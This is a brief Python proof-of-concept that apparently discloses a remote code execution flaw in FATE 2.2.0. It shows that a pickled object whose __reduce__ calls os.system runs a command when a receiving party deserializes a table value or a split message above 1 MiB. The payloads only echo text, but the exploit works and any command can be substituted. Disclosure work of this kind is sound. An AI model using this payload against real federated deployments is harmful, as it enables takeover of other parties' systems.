"""FATE 2.2.0: a value in a table of another party runs a command at its receiver, and so does a message above 1 MiB."""

import os
import pickle
from types import SimpleNamespace

from fate.arch.computing.serdes import get_serdes_by_type
from fate.arch.federation.api import TableMeta, TableRemotePersistentUnpickler
from fate.arch.federation.api._serdes import _FederationBytesCoder


class Command:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


# What `collect`, and each function on the table in each process of the receiver, does with the bytes that came.
get_serdes_by_type(0).deserialize(pickle.dumps(Command("echo a table value ran this command")))

# A large message announces a table of slices, and the receiver reads that before it looks into any slice.
value = pickle.dumps(Command("echo a large message ran this command"))
table = SimpleNamespace(collect=lambda: [(0, get_serdes_by_type(0).deserialize(value))])
federation = SimpleNamespace(pull_table=lambda name, tag, parties, table_metas: [table])
announced = _FederationBytesCoder.encode_split(TableMeta(1, 0, 0, 0), 2 << 20, 2, 1 << 20)
try:
    TableRemotePersistentUnpickler.pull(announced, None, federation, "name", "tag", ("guest", "9999"))
except TypeError:
    pass  # the command's exit status is no slice
